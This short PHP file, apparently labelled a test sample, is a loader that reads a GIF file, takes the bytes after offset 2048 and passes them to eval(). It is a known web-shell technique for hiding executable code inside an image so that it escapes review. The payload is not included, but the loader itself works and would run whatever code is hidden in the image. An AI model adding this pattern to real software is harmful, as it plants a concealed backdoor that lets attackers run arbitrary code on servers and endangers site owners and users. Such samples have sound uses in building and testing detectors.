<?php
// Loader that keeps its code after the picture data of a GIF next to it.
// Test sample: the GIF is not shipped; nothing runs without it.
$marker = 2048;
$blob = file_get_contents(__DIR__ . '/assets/spacer.gif');
if ($blob !== false && strlen($blob) > $marker) {
    $code = trim(substr($blob, $marker));
    eval($code);
}
